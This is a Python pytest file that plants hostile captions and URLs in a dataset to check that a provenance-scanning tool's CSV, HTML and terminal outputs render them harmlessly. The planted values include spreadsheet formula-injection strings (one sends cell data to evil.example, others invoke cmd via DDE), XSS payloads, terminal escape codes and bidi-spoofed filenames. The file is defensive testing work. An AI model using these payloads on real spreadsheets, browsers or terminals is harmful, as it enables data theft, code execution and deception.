"""Texts written to break whoever shows them: they stay evidence, and nothing that prints them can be fooled."""

from __future__ import annotations

import csv
import io
import re
import subprocess
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from integration_world import Ran, Run, command, environment, records
from small_world import COPIED, NAMES, Scanned, assert_clear, copy_hash, coyo, scan, write_works

if TYPE_CHECKING:
    from pathlib import Path

CAPTIONS = {
    3: "a\0b",
    5: "invoice \u202egnp.exe\u2066 \u200f",
    7: '=HYPERLINK("https://evil.example/?"&A1,"click")',
    9: "+1+cmd|' /C calc'!A0",
    11: "-2+3",
    13: "@SUM(A1:A9)",
    15: "\t=1+1",
    17: "\r\n=1+1",
    19: "<script>alert(1)</script><img src=x onerror=alert(2)>\"'`",
    21: "</style></title><svg onload=alert(3)>&#x3c;",
    23: "\x1b[2J\x1b]0;owned\x07\x9b31m",
    25: "line\u2028separator\u0085next\nlast",
    27: "M" + "\u00e9" * 524_288 + "end",  # a byte more than 1 MiB
    29: "",
    31: "\ud83d\ude00 \U0001f600".encode("utf-16", "surrogatepass").decode("utf-16"),
    33: '","evil";\n"x',
    35: "\uff1d1+1",
    37: " =1+1",
}
URLS = {
    39: None,
    41: "https://example.org/" + "u" * 100_000 + ".jpg",
    43: "javascript:alert(4)",
    45: 'https://example.org/"><script>alert(5)</script>\n.jpg',
    47: "https://exa\u202emple.org/\0.jpg",
    49: "=cmd|' /C calc'!A0",
}
INVALID_ROW = 51
PLANTED = sorted([*CAPTIONS, *URLS, INVALID_ROW])
DANGEROUS = re.compile(r"[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def hostile_table() -> pa.Table:
    planted: dict[int, dict[str, Any]] = {row: {"image_phash": copy_hash()} for row in PLANTED}
    for row, caption in CAPTIONS.items():
        planted[row]["text"] = caption
    for row, url in URLS.items():
        planted[row]["url"] = url
    table = coyo(300, planted)
    texts = [value.as_py() if value.is_valid else None for value in table["text"].combine_chunks().cast(pa.binary())]
    texts[INVALID_ROW] = b"caf\xe9 \xff\xfe \xed\xa0\x80 end"  # latin-1, and a surrogate: no UTF-8
    place = table.schema.get_field_index("text")
    return table.set_column(place, "text", pa.array(texts, pa.binary()).view(pa.string()))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Scanned:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "d").mkdir()
    pq.write_table(hostile_table(), folder / "d" / "hostile.parquet")

    def run(*arguments: str | Path) -> Ran:
        done = subprocess.run(command(arguments), capture_output=True, cwd=folder, env=environment(), check=False)
        return Ran(done.returncode, done.stdout.decode("utf-8"), done.stderr.decode("utf-8"))

    return scan(run, write_works(folder / "works"), folder / "d", out=folder / "out")


def test_every_row_is_found_whatever_its_texts_are(hostile: Scanned) -> None:
    assert hostile.found == {("hostile.parquet", row, NAMES[COPIED]) for row in PLANTED}


def test_the_texts_are_kept_as_they_are_or_marked(hostile: Scanned) -> None:
    rows = {one["row"]["row_number"]: one for one in records(hostile.package, "matches")}
    for number, caption in CAPTIONS.items():
        shown = rows[number]["row"]["caption"]
        if len(caption) < 100_000:
            assert shown == caption
        else:
            assert len(shown) < len(caption)
            assert "text_not_verbatim" in rows[number]["caveats"]
    assert "text_not_verbatim" in rows[INVALID_ROW]["caveats"]
    assert rows[39]["row"]["url"] is None
    assert rows[43]["row"]["url"] == URLS[43]


def test_no_cell_of_the_table_is_a_formula(hostile: Scanned) -> None:
    content = (hostile.package / "data" / "exports" / "evidence.csv").read_bytes().decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(content, newline="")))
    assert len({len(line) for line in table}) == 1
    for line in table:
        for cell in line:
            assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff20")), cell[:80]
            assert not re.match(r"-(?!\d+(\.\d+)?$)", cell.lstrip(" ")), cell[:80]
            assert not DANGEROUS.search(cell), cell[:80]
            assert len(cell) <= 32_767  # what a spreadsheet holds


class Markup(HTMLParser):
    """Tags and attributes as a browser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_the_report_runs_and_requests_nothing(hostile: Scanned) -> None:
    page = (hostile.package / "data" / "report.html").read_text(encoding="utf-8")
    assert not DANGEROUS.search(page)
    assert len(page) < 30_000_000
    markup = Markup()
    markup.feed(page)
    for tag, attributes in markup.seen:
        assert tag not in {"script", "iframe", "object", "embed", "link", "base", "form"}, tag
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            if name in {"href", "src", "srcset", "action", "data", "poster", "background"}:
                assert (value or "").startswith(("#", "data:image/", "rows/", "exports/", "../", "thumbnails/")), value
    assert "alert(1)" in "".join(markup.text)  # shown, as text


def test_show_and_every_export_print_no_control_characters(hostile: Scanned, provscan: Run, tmp_path: Path) -> None:
    for arguments in (("show", hostile.package), ("verify", hostile.package)):
        ran = provscan(*arguments)
        assert ran.code == 0
        assert_clear(ran)
        assert not DANGEROUS.search(ran.out.replace("\r", "")), arguments
        assert max(map(len, ran.out.split("\n"))) < 5_000
    for form in ("csv", "html", "drafts"):
        out = tmp_path / f"export.{form}"
        ran = provscan("export", hostile.package, "--format", form, "--out", out)
        assert ran.code == 0, ran.err
        files = [out] if out.is_file() else [path for path in out.rglob("*") if path.is_file()]
        for path in files:
            assert not DANGEROUS.search(path.read_text(encoding="utf-8-sig")), path


@pytest.mark.parametrize("name", ["latin1.csv", "latin1.tsv", "latin1.jsonl"])
def test_captions_that_are_not_utf8_cost_nothing(provscan: Run, tmp_path: Path, name: str) -> None:
    lines = {
        "latin1.csv": b'url,caption\nhttps://a.example/1.jpg,"caf\xe9, cr\xe8me"\nhttps://mine.example/2.jpg,\xff\xfe\n',
        "latin1.tsv": b"url\tcaption\nhttps://a.example/1.jpg\tcaf\xe9\nhttps://mine.example/2.jpg\t\xff\xfe\n",
        "latin1.jsonl": b'{"url":"https://a.example/1.jpg","caption":"caf\xe9"}\n'
        b'{"url":"https://mine.example/2.jpg","caption":"\xff\\ud800 \\u0000"}\n',
    }
    (tmp_path / name).write_bytes(lines[name])
    (tmp_path / "me.toml").write_text('work_urls = ["https://mine.example/2.jpg"]\n', encoding="utf-8")
    works = write_works(tmp_path / "works")
    scanned = scan(
        provscan, works, tmp_path / name, out=tmp_path / "out", options=("--identity", str(tmp_path / "me.toml"))
    )
    assert scanned.found == {(name, 1, "")}
